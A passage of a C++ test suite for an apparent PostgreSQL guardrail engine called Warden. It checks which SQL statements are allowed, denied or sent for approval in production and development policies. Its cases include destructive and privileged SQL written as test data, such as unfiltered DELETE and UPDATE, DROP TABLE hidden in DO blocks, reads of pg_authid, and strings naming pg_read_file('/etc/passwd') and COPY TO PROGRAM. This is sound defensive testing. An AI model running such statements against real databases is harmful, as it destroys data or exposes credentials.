     "CREATE OR REPLACE VIEW open_orders AS SELECT id FROM orders"},
    {kApproval, "ddl-needs-approval",
     "CREATE FUNCTION one() RETURNS int LANGUAGE sql AS 'SELECT 1'"},
    {kApproval, "ddl-needs-approval",
     "CREATE FUNCTION one() RETURNS int LANGUAGE sql IMMUTABLE RETURN 1"},
    {kApproval, "ddl-needs-approval",
     "CREATE FUNCTION one() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; "
     "END $$"},
    {kApproval, "ddl-needs-approval",
     "CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
     "NEW.updated_at := now(); RETURN NEW; END $$"},
    {kApproval, "ddl-needs-approval",
     "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN RAISE "
     "NOTICE 'DROP TABLE orders'; END $$"},
    {kApproval, "ddl-needs-approval",
     "CREATE PROCEDURE add_note(t text) LANGUAGE sql AS $$ INSERT INTO notes "
     "(body) VALUES (t) $$"},
    {kApproval, "ddl-needs-approval",
     "CREATE PROCEDURE purge(i int) LANGUAGE plpgsql AS $$ BEGIN DELETE FROM "
     "orders WHERE id = i; END $$"},
    {kApproval, "ddl-needs-approval",
     "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = app AS "
     "'SELECT 1'"},
    {kApproval, "ddl-needs-approval",
     "CREATE RULE r AS ON INSERT TO orders DO ALSO NOTIFY orders"},
    {kApproval, "ddl-needs-approval",
     "CREATE RULE r AS ON DELETE TO orders DO INSTEAD NOTHING"},
    {kApproval, "ddl-needs-approval",
     "CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM audit WHERE id "
     "= NEW.id"},
    {kApproval, "ddl-needs-approval",
     "CREATE TRIGGER touch BEFORE UPDATE ON orders FOR EACH ROW EXECUTE "
     "FUNCTION touch()"},
    {kApproval, "ddl-needs-approval",
     "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()"},
    {kApproval, "ddl-needs-approval", "CREATE SCHEMA reporting"},
    {kApproval, "ddl-needs-approval", "CREATE DATABASE scratch"},
    {kApproval, "ddl-needs-approval", "CREATE SEQUENCE order_ref"},
    {kApproval, "ddl-needs-approval", "CREATE TYPE mood AS ENUM ('ok', 'sad')"},
    {kApproval, "ddl-needs-approval",
     "CREATE DOMAIN positive AS int CHECK (VALUE > 0)"},
    {kApproval, "ddl-needs-approval", "CREATE EXTENSION pgcrypto"},
    {kApproval, "ddl-needs-approval",
     "CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\""},
    {kApproval, "ddl-needs-approval", "CREATE EXTENSION plperl"},
    {kApproval, "ddl-needs-approval",
     "CREATE TRUSTED LANGUAGE plsample HANDLER plsample_call_handler"},
    {kApproval, "ddl-needs-approval", "ALTER EXTENSION pgcrypto UPDATE"},
    {kApproval, "ddl-needs-approval",
     "COMMENT ON TABLE orders IS 'DROP TABLE orders'"},
    {kApproval, "ddl-needs-approval",
     "SECURITY LABEL FOR selinux ON TABLE orders IS "
     "'system_u:object_r:sepgsql_table_t:s0'"},
    {kApproval, "ddl-needs-approval",
     "CREATE POLICY own_rows ON orders USING (owner = current_user)"},
    {kApproval, "ddl-needs-approval",
     "CREATE PUBLICATION all_tables FOR ALL TABLES"},
    {kApproval, "ddl-needs-approval",
     "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw"},
    {kApproval, "ddl-needs-approval",
     "IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO staging"},
    {kApproval, "ddl-needs-approval",
     "CREATE STATISTICS s ON a, b FROM orders"},
    {kApproval, "ddl-needs-approval",
     "ALTER DATABASE shop SET work_mem = '64MB'"},
    {kApproval, "ddl-needs-approval", "ALTER FUNCTION f() SECURITY DEFINER"},
    {kApproval, "ddl-needs-approval", "ALTER TYPE mood ADD VALUE 'happy'"},
    {kApproval, "ddl-needs-approval",
     "CREATE TABLE t (id int); CREATE INDEX ON t (id)"},
    // Require approval: privileges and roles
    {kApproval, "dcl-needs-approval", "GRANT SELECT ON orders TO analyst"},
    {kApproval, "dcl-needs-approval",
     "GRANT ALL ON ALL TABLES IN SCHEMA public TO app"},
    {kApproval, "dcl-needs-approval", "REVOKE INSERT ON orders FROM app"},
    {kApproval, "dcl-needs-approval", "GRANT admin TO alice"},
    {kApproval, "dcl-needs-approval", "REVOKE admin FROM alice"},
    {kApproval, "dcl-needs-approval", "CREATE ROLE reporting"},
    {kApproval, "dcl-needs-approval", "CREATE USER bob LOGIN"},
    {kApproval, "dcl-needs-approval", "ALTER ROLE app SUPERUSER"},
    {kApproval, "dcl-needs-approval", "ALTER ROLE app CONNECTION LIMIT 5"},
    {kApproval, "dcl-needs-approval", "ALTER ROLE app SET work_mem = '1GB'"},
    {kApproval, "dcl-needs-approval", "ALTER ROLE app RENAME TO app2"},
    {kApproval, "dcl-needs-approval", "DROP ROLE reporting"},
    {kApproval, "dcl-needs-approval", "DROP USER IF EXISTS bob"},
    {kApproval, "dcl-needs-approval",
     "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO "
     "analyst"},
    {kApproval, "dcl-needs-approval", "REASSIGN OWNED BY old_app TO app"},
    {kApproval, "dcl-needs-approval", "ALTER FUNCTION f() OWNER TO app"},
    {kApproval, "dcl-needs-approval",
     "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'app')"},
    {kApproval, "do-needs-approval",
     "DO $$ BEGIN GRANT SELECT ON orders TO analyst; END $$"},
    // Require approval: CALL and DO
    {kApproval, "call-needs-approval", "CALL refresh_stats()"},
    {kApproval, "call-needs-approval", "CALL app.close_month(2024, 'x')"},
    {kApproval, "call-needs-approval", "call p()"},
    {kApproval, "call-needs-approval", "SELECT 1; CALL p()"},
    {kApproval, "do-needs-approval",
     "DO $$ BEGIN RAISE NOTICE 'hello'; END $$"},
    {kApproval, "do-needs-approval",
     "DO $$ BEGIN UPDATE orders SET total = 0 WHERE id = 1; END $$"},
    {kApproval, "do-needs-approval", "DO $$ BEGIN PERFORM 1; END $$"},
    {kApproval, "do-needs-approval",
     "DO LANGUAGE plpgsql $$ BEGIN NULL; END $$"},
    {kApproval, "do-needs-approval", "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$"},
    {kApproval, "do-needs-approval",
     "DO $$ BEGIN RAISE NOTICE 'DROP TABLE orders'; END $$"},
    {kApproval, "do-needs-approval",
     "DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM orders; END $$"},
    {kApproval, "do-needs-approval",
     "DO $$ BEGIN INSERT INTO notes VALUES (1, 'DROP TABLE orders'); END $$"},
    // Allowed: reads
    {kAllow, "", "SELECT 1"},
    {kAllow, "", "SELECT * FROM orders WHERE id = 1"},
    {kAllow, "", "select * from orders"},
    {kApproval, "locking-read-needs-approval", "SELECT * FROM orders FOR UPDATE"},
    {kAllow, "", "SELECT * FROM orders WHERE id = 3 FOR UPDATE"},
    {kAllow, "", "SELECT * FROM orders ORDER BY id LIMIT 5 FOR UPDATE SKIP LOCKED"},
    {kAllow, "",
     "SELECT status, count(*) FROM orders GROUP BY status HAVING count(*) > 1"},
    {kAllow, "", "WITH x AS (SELECT 1) SELECT * FROM x"},
    {kAllow, "",
     "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < "
     "5) SELECT * FROM n"},
    {kAllow, "", "VALUES (1), (2)"},
    {kAllow, "", "TABLE orders"},
    {kAllow, "", "SELECT now(), current_user, version()"},
    {kAllow, "", "SELECT pg_backend_pid()"},
    {kAllow, "", "SELECT count(*) FROM pg_stat_activity"},
    {kAllow, "", "SELECT pg_size_pretty(pg_database_size('shop'))"},
    // Large-object writes are a class of PostgreSQL's catalog (issue 13).
    {kDeny, "no-privileged-builtins", "SELECT lo_from_bytea(0, 'x')"},
    {kDeny, "no-privileged-builtins", "SELECT pg_stat_reset()"},
    {kDeny, "no-privileged-builtins", "SELECT * FROM pg_authid"},
    {kAllow, "", "SELECT lo_get(16400)"},
    // Allowed: look-alikes
    {kAllow, "", "SELECT 'DROP TABLE orders'"},
    {kAllow, "", "SELECT $$DROP TABLE orders$$"},
    {kAllow, "", "SELECT $tag$ TRUNCATE orders; DELETE FROM orders $tag$"},
    {kAllow, "", "SELECT E'DROP TABLE orders\\n'"},
    {kAllow, "", "SELECT 'SET session_replication_role = replica'"},
    {kAllow, "",
     "SELECT 'set_config(''session_replication_role'', ''replica'', false)'"},
    {kAllow, "", "SELECT 'pg_read_file(''/etc/passwd'')'"},
    {kAllow, "", "SELECT lower('pg_terminate_backend')"},
    {kAllow, "", "SELECT * FROM \"drop\""},
    {kAllow, "", "SELECT * FROM \"truncate\""},
    {kAllow, "", "SELECT * FROM \"DROP TABLE orders\""},
    {kAllow, "", "SELECT \"drop\", \"truncate\", \"delete\" FROM t"},
    {kAllow, "", "SELECT truncate FROM t"},
    {kAllow, "", "INSERT INTO \"drop\" VALUES (1)"},
    {kAllow, "", "SELECT delete_at FROM orders"},
    {kAllow, "",
     "SELECT id, delete_at, truncated, dropped FROM orders WHERE delete_at IS "
     "NULL"},
    {kAllow, "", "UPDATE orders SET delete_at = now() WHERE id = 7"},
    {kAllow, "", "SELECT 1 -- DROP TABLE orders"},
    {kAllow, "", "SELECT /* DROP TABLE orders; */ 1"},
    {kAllow, "", "-- DROP TABLE orders\nSELECT 1"},
    {kAllow, "", "SELECT 1 AS pg_read_file"},
    {kAllow, "", "SELECT pg_read_file FROM audit_log"},
    {kAllow, "", "SELECT * FROM pg_read_file"},
    {kAllow, "", "SELECT 1 AS \"DROP TABLE\""},
    {kAllow, "", "SELECT count(*) AS truncate FROM orders"},
    {kAllow, "", "SELECT * FROM orders WHERE note = 'DELETE FROM orders'"},
    {kAllow, "",
     "SELECT * FROM orders WHERE note LIKE '%; DROP TABLE orders; --%'"},
    {kAllow, "",
     "INSERT INTO notes (body) VALUES ('DROP TABLE orders; TRUNCATE items')"},
    {kAllow, "",
     "INSERT INTO notes (body) VALUES ($$COPY orders TO PROGRAM 'id'$$)"},
    {kAllow, "", "SELECT * FROM dblink_log"},
    {kAllow, "", "SELECT my_dblink_helper(1)"},
    {kAllow, "", "SELECT lo_get(16409)"},
    // Allowed: filtered writes
    {kAllow, "", "DELETE FROM orders WHERE id = 1"},
    {kAllow, "", "DELETE FROM orders WHERE id = 1 AND 1 = 1"},
    {kAllow, "",
     "DELETE FROM orders WHERE created_at < now() - interval '1 year'"},
    {kAllow, "", "DELETE FROM orders WHERE 1 = 2"},
    {kAllow, "", "DELETE FROM orders WHERE false OR id = 3"},
    {kDeny, "no-unfiltered-writes",
     "DELETE FROM orders WHERE id IN (SELECT id FROM stale)"},
    {kDeny, "no-unfiltered-writes",
     "DELETE FROM orders o USING items i WHERE o.id = i.order_id"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE $1"},
    // SQL run from text (query_to_xml family, ts_stat, ts_rewrite): nested.
    {kDeny, "no-unfiltered-writes",
     "SELECT query_to_xml('DELETE FROM orders RETURNING id', true, false, '')"},
    {kDeny, "no-superuser-functions",
     "SELECT query_to_xml('select pg_terminate_backend(42)', true, false, '')"},
    {kDeny, "no-unresolved-dynamic-sql",
     "SELECT query_to_xml(lower('SELECT 1'), true, false, '')"},
    {kDeny, "no-unresolved-dynamic-sql",
     "SELECT * FROM ts_stat(current_setting('x'))"},
    {kAllow, "",
     "SELECT query_to_xml('SELECT id FROM orders', true, false, '')"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE id::bool"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders o WHERE o::text LIKE '(%'"},
    {kDeny, "no-unfiltered-writes",
     "INSERT INTO products (id) VALUES (generate_series(1, 1000)) ON CONFLICT "
     "(id) DO UPDATE SET price = 0"},
    {kDeny, "no-unfiltered-writes",
     "UPDATE customers SET name = 'pwned' WHERE $1"},
    {kDeny, "no-unfiltered-writes",
     "PREPARE p(bool) AS UPDATE products SET price = 0 WHERE $1"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE id = id"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE ctid = ctid"},
    {kDeny, "no-unfiltered-writes",
     "DELETE FROM orders WHERE EXISTS (SELECT 1)"},
    {kDeny, "no-unfiltered-writes",
     "UPDATE orders SET total = 0 WHERE 1::int = 1"},
    {kDeny, "no-unfiltered-writes",
     "UPDATE orders SET total = 0 WHERE id = 1 OR id <> 1"},
    {kDeny, "no-unfiltered-writes",
     "UPDATE orders SET total = 0 FROM items WHERE items.id = 1"},
    {kDeny, "no-unfiltered-writes",
     "INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET "
     "total = 0"},
    {kDeny, "no-unfiltered-writes",
     "WITH d AS (DELETE FROM orders WHERE coalesce(true) RETURNING *) "
     "SELECT count(*) FROM d"},
    {kAllow, "",
     "UPDATE orders o SET total = v.t FROM (VALUES (1, 9.5)) v(id, t) "
     "WHERE o.id = v.id"},
    {kAllow, "", "DELETE FROM orders WHERE id = $1"},
    {kAllow, "", "UPDATE orders SET status = 'shipped' WHERE id = 7"},
    {kAllow, "", "UPDATE orders SET total = total * 2 WHERE id = 7 AND true"},
    {kDeny, "no-unfiltered-writes",
     "UPDATE orders o SET total = s.total FROM staging s WHERE o.id = s.id"},
    {kDeny, "no-unfiltered-writes",
     "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN "
     "UPDATE SET total = s.total"},
    {kDeny, "no-unfiltered-writes",
     "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN "
     "DELETE"},
    {kAllow, "",
     "MERGE INTO orders o USING (VALUES (1, 2.0)) s(id, total) ON o.id = s.id "
     "WHEN MATCHED THEN UPDATE SET total = s.total"},
    {kAllow, "",
     "MERGE INTO orders o USING staging s ON true WHEN NOT MATCHED THEN INSERT "
     "VALUES (s.id)"},
    {kAllow, "", "INSERT INTO orders VALUES (1)"},
    {kAllow, "", "INSERT INTO orders (id) SELECT id FROM staging"},
    {kAllow, "",
     "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total "
     "= 0"},
    {kAllow, "", "INSERT INTO orders (id) VALUES (1) RETURNING id"},
    {kAllow, "",
     "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d"},
    {kAllow, "",
     "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) INSERT INTO "
     "archive SELECT * FROM d"},
    {kAllow, "", "EXPLAIN DELETE FROM orders"},
    {kAllow, "", "EXPLAIN (ANALYZE false) DELETE FROM orders"},
    {kAllow, "",
     "EXPLAIN WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"},
    {kAllow, "", "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1"},
    {kAllow, "", "PREPARE p (int) AS DELETE FROM orders WHERE id = $1"},
    {kAllow, "", "EXECUTE p(1)"},
    {kAllow, "", "DEALLOCATE p"},
    {kAllow, "", "DEALLOCATE ALL"},
    // Allowed: transactions, settings, COPY, utility
    {kAllow, "", "BEGIN"},
    {kAllow, "", "BEGIN ISOLATION LEVEL SERIALIZABLE"},
    {kAllow, "", "START TRANSACTION READ ONLY"},
    {kAllow, "", "COMMIT"},
    {kAllow, "", "ROLLBACK"},
    {kAllow, "", "END"},
    {kAllow, "", "SAVEPOINT s1"},
    {kAllow, "", "RELEASE SAVEPOINT s1"},
    {kAllow, "", "ROLLBACK TO SAVEPOINT s1"},
    {kAllow, "", "BEGIN; UPDATE orders SET total = 0 WHERE id = 1; COMMIT"},
    {kAllow, "", "SET CONSTRAINTS ALL DEFERRED"},
    {kAllow, "", "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ"},
    {kAllow, "", "SET search_path TO app, public"},
    {kAllow, "", "set Search_Path = app"},
    {kAllow, "", "SET statement_timeout = '5s'"},
    {kAllow, "", "SET LOCAL lock_timeout = '1s'"},
    {kAllow, "", "SET application_name = 'DROP TABLE orders'"},
    {kAllow, "", "SET TIME ZONE 'UTC'"},
    // Acting as another role needs approval; going back does not.
    {kApproval, "role-change-needs-approval", "SET ROLE app_readonly"},
    {kApproval, "role-change-needs-approval", "SET LOCAL ROLE admin"},
    {kApproval, "role-change-needs-approval",
     "SET SESSION AUTHORIZATION admin"},
    {kApproval, "role-change-needs-approval",
     "SELECT set_config('role', 'admin', true)"},
    {kAllow, "", "RESET ROLE"},
    {kAllow, "", "SET ROLE NONE"},
    {kAllow, "", "SET SESSION AUTHORIZATION DEFAULT"},
    {kAllow, "", "RESET statement_timeout"},
    {kAllow, "", "RESET ALL"},
    {kAllow, "", "SHOW session_replication_role"},
    {kAllow, "", "SHOW ALL"},
    {kAllow, "", "SELECT current_setting('session_replication_role')"},
    {kAllow, "",
     "SELECT name, setting FROM pg_settings WHERE name = "
     "'session_replication_role'"},
    {kAllow, "", "SELECT set_config('search_path', 'app, public', false)"},
    {kAllow, "", "SELECT set_config('application_name', 'reports', true)"},
    {kAllow, "",
     "UPDATE pg_settings SET setting = '64MB' WHERE name = 'work_mem'"},
    {kAllow, "", "COPY orders FROM STDIN"},
    {kAllow, "", "COPY orders TO STDOUT"},
    {kAllow, "",
     "COPY orders (id, total) FROM STDIN WITH (FORMAT csv, HEADER)"},
    {kAllow, "",
     "COPY (SELECT * FROM orders WHERE id = 1) TO STDOUT WITH (FORMAT binary)"},
    {kAllow, "", "copy orders from stdin"},
    {kAllow, "", "EXPLAIN SELECT * FROM orders"},
    {kAllow, "", "EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 1"},
    {kAllow, "", "EXPLAIN (FORMAT json, COSTS off) SELECT 1"},
    {kAllow, "", "LISTEN orders_changed"},
    {kAllow, "", "NOTIFY orders_changed, 'DROP TABLE orders'"},
    {kAllow, "", "UNLISTEN *"},
    {kAllow, "", "DISCARD ALL"},
    {kAllow, "", "VACUUM (VERBOSE) orders"},
    {kAllow, "", "ANALYZE orders"},
    {kApproval, "blocking-lock-needs-approval",
     "LOCK TABLE orders IN SHARE MODE"},
    {kApproval, "blocking-lock-needs-approval", "LOCK orders"},
    {kAllow, "", "LOCK TABLE orders IN ACCESS SHARE MODE"},
    {kApproval, "table-rewrite-needs-approval", "VACUUM FULL orders"},
    {kAllow, "", "VACUUM (ANALYZE) orders"},
    {kApproval, "wide-reindex-needs-approval", "REINDEX DATABASE shop"},
    {kAllow, "", "REINDEX TABLE orders"},
    {kApproval, "availability-needs-approval", "CHECKPOINT"},
    {kApproval, "availability-needs-approval", "PREPARE TRANSACTION 'x'"},
    {kApproval, "sequence-reset-needs-approval",
     "SELECT setval('orders_id_seq', 1, false)"},
    {kDeny, "no-drop-cascade", "DROP DOMAIN positive_amount CASCADE"},
    {kAllow, "", "DECLARE c CURSOR FOR SELECT * FROM orders"},
    {kAllow, "", "FETCH 10 FROM c"},
    {kAllow, "", "CLOSE c"},
    {kAllow, "", ";"},
    {kAllow, "", "SELECT 1; SELECT 2; SELECT 3"},
    // Unparseable: denied by the default
    {kDeny, "", "DR/**/OP TABLE orders"},
    {kDeny, "", "SELEC 1"},
    {kDeny, "", "DROP TABLE"},
    {kDeny, "", "DELETE orders"},
    {kDeny, "", "SELECT 'unterminated"},
    {kDeny, "", "PREPARE p AS DROP TABLE orders"},
    {kDeny, "", "DROP TABLE orders; SELEC 1"},
    {kDeny, "", "SELECT 1; DR OP TABLE orders"},
    {kDeny, "", "\"DROP\" TABLE orders"},
    {kDeny, "", "DELETE FROM orders WHERE"},
};

TEST_F(PolicyExamplesTest, CompileWithRulesInOrder) {
  ASSERT_EQ(bundle_->policies_size(), 2);
  const auto& prod = bundle_->policies(0);
  EXPECT_EQ(prod.name(), "production-guardrails");
  EXPECT_THAT(prod.environments(), ::testing::ElementsAre("prod"));
  EXPECT_EQ(prod.default_action(), kAllow);
  EXPECT_EQ(prod.unparseable(), kDeny);
  EXPECT_EQ(prod.default_audit(), warden::v1::AUDIT_LEVEL_FULL);
  std::vector<std::string> names;
  for (const auto& r : prod.rules()) {
    names.push_back(r.name());
    EXPECT_FALSE(r.message().empty()) << r.name() << " needs a user message";
    if (r.action() == kApproval) {
      EXPECT_THAT(r.approval().reviewers(),
                  ::testing::ElementsAre("group:db-owners"));
      EXPECT_EQ(r.approval().approvals(), 1);
      EXPECT_EQ(r.approval().expires_seconds(), 30 * 60);
    }
  }
  EXPECT_THAT(
      names,
      ::testing::ElementsAre(
          "no-drop-data-objects", "no-truncate", "no-unfiltered-writes",
          "no-drop-cascade", "no-alter-system", "no-copy-program",
          "no-copy-server-file", "no-load", "no-session-replication-role",
          "no-superuser-functions", "no-privileged-builtins",
          "no-untrusted-languages",
          "no-unresolved-dynamic-sql", "ddl-needs-approval",
          "dcl-needs-approval", "call-needs-approval", "do-needs-approval",
          "role-change-needs-approval", "blocking-lock-needs-approval",
          "locking-read-needs-approval", "table-rewrite-needs-approval", "wide-reindex-needs-approval",
          "availability-needs-approval", "sequence-reset-needs-approval"));
  const auto& dev = bundle_->policies(1);
  EXPECT_EQ(dev.name(), "development-open");
  EXPECT_THAT(dev.environments(), ::testing::ElementsAre("dev"));
  EXPECT_EQ(dev.rules_size(), 0);
  EXPECT_EQ(dev.unparseable(), kDeny);
}

TEST_F(PolicyExamplesTest, ProductionDecisions) {
  std::set<std::string> rules_seen;
  int checked = 0;
  for (const Case& c : kCases) {
    const engine::Decision d = Eval(c.sql);
    EXPECT_EQ(ActionName(d.action), ActionName(c.action))
        << c.sql << "\n  " << d.reason;
    EXPECT_EQ(d.rule, c.rule) << c.sql << "\n  " << d.reason;
    EXPECT_EQ(d.policy, "production-guardrails") << c.sql;
    EXPECT_EQ(d.audit, warden::v1::AUDIT_LEVEL_FULL) << c.sql;
    if (*c.rule != '\0') {
      rules_seen.insert(c.rule);
      EXPECT_FALSE(d.message.empty()) << c.sql;
      EXPECT_THAT(d.reason, HasSubstr("by rule " + std::string(c.rule)))
          << c.sql;
      EXPECT_FALSE(d.command.empty()) << c.sql;
    }
    ++checked;
  }
  EXPECT_GT(checked, 400);
  // Every rule of the policy is exercised by some case.
  for (const auto& r : bundle_->policies(0).rules()) {
    EXPECT_TRUE(rules_seen.count(r.name())) << r.name() << " has no case";
  }
}

// Everything that parses, except what Warden itself refuses in every
// environment: a setting that would make PostgreSQL read statements
// differently from Warden (policy/sql/lexing.h).
TEST_F(PolicyExamplesTest, DevelopmentAllowsEverythingThatParses) {
  for (const Case& c : kCases) {
    auto analyzed = sql::Analyze(c.sql);
    const bool parses = analyzed.ok();
    bool lexing = false;
    if (parses) {
      for (const auto& f : *analyzed) {
        lexing = lexing || !sql::LexingChangeIn(f).empty();
      }
    }
    const engine::Decision d = Eval(c.sql, "dev");
    EXPECT_EQ(d.action, parses && !lexing ? kAllow : kDeny)
        << c.sql << "\n  " << d.reason;
    if (lexing) {
      EXPECT_EQ(d.rule, "no-parser-differential") << c.sql;
      continue;
    }
    EXPECT_EQ(d.rule, "") << c.sql;
    EXPECT_EQ(d.policy, "development-open") << c.sql;
    EXPECT_EQ(d.audit, warden::v1::AUDIT_LEVEL_FULL) << c.sql;
    // Unparseable in prod exactly when unparseable in dev.
    if (!parses) {
      EXPECT_EQ(c.action, kDeny) << c.sql;
      EXPECT_STREQ(c.rule, "") << c.sql;
    }
  }
}

TEST_F(PolicyExamplesTest, DenialsNameTheStatement) {
  engine::Decision d = Eval("SELECT 1; DROP TABLE orders");
  EXPECT_EQ(d.statement, 1);
  EXPECT_EQ(d.command, "DROP TABLE");
  EXPECT_EQ(d.reason,
            "DROP TABLE denied by rule no-drop-data-objects of policy "
            "production-guardrails (statement 2)");
  EXPECT_THAT(d.message, HasSubstr("ship it as a reviewed migration"));
  d = Eval("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d");
  EXPECT_EQ(d.command, "DELETE");
  EXPECT_EQ(d.via, "SELECT via cte");
  d = Eval("DO $$ BEGIN EXECUTE 'TRUNCATE orders'; END $$");
  EXPECT_EQ(d.command, "TRUNCATE TABLE");
  EXPECT_EQ(d.via, "DO via execute");
  d = Eval(
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
      "EXECUTE 'DROP SCHEMA s'; END $$");
  EXPECT_EQ(d.via, "CREATE FUNCTION via execute");
  d = Eval("SELECT * FROM orders WHERE id = 1");
  EXPECT_EQ(d.command, "SELECT");
  EXPECT_EQ(d.reason,
            "SELECT allowed by default of policy production-guardrails");
}

TEST_F(PolicyExamplesTest, OtherEnvironmentsAndDatabases) {
  // No example applies to staging: fail closed.
  const engine::Decision staging = Eval("SELECT 1", "staging");
  EXPECT_EQ(staging.action, kDeny);
  EXPECT_THAT(staging.reason, HasSubstr("no policy applies"));
  // Both examples cover every database of their environment.
  EXPECT_EQ(
      Eval("DROP TABLE t", "prod", {"alice", {}, "human"}, "billing").rule,
      "no-drop-data-objects");
  EXPECT_EQ(
      Eval("DROP TABLE t", "dev", {"alice", {}, "human"}, "billing").action,
      kAllow);
  // The guardrails do not depend on who asks.
  EXPECT_EQ(Eval("TRUNCATE t", "prod", {"root", {"dba"}, "service"}).rule,
            "no-truncate");
  EXPECT_EQ(Eval("TRUNCATE t", "prod", {"bot", {}, "agent"}).rule,
            "no-truncate");
}

// Runs one PolicyTest file (the format `wardenctl policy test` reads).
// The PolicyTest files beside the examples, run by policy/testing (the code
// behind `wardenctl policy test`); returns how many cases ran.
int RunPolicyTestFile(const std::string& file,
                      const warden::v1::PolicyBundle& bundle) {
  auto suites = testing::LoadTests({{file, ReadExample(file)}});
  EXPECT_TRUE(suites.ok()) << suites.status();
  if (!suites.ok()) return 0;
  int cases = 0;
  for (const auto& r : testing::RunTests(bundle, *suites)) {
    EXPECT_TRUE(r.passed) << file << ": " << r.name << "\n  "
                          << (r.mismatches.empty() ? "" : r.mismatches[0])
                          << "\n  " << r.actual.reason;
    ++cases;
  }
  return cases;
}

TEST_F(PolicyExamplesTest, PolicyTestFilesPass) {
  EXPECT_GE(RunPolicyTestFile("production_test.yaml", *bundle_), 60);
  EXPECT_GE(RunPolicyTestFile("development_test.yaml", *bundle_), 10);
}

TEST_F(PolicyExamplesTest, PolicyTestFilesAreSkippedByTheCompiler) {
  auto bundle = lang::Compile(
      {{"production.yaml", ReadExample("production.yaml")},
       {"production_test.yaml", ReadExample("production_test.yaml")},
       {"development_test.yaml", ReadExample("development_test.yaml")}});
  ASSERT_TRUE(bundle.ok()) << bundle.status();
  EXPECT_EQ(bundle->policies_size(), 1);
}

}  // namespace
}  // namespace warden::policy
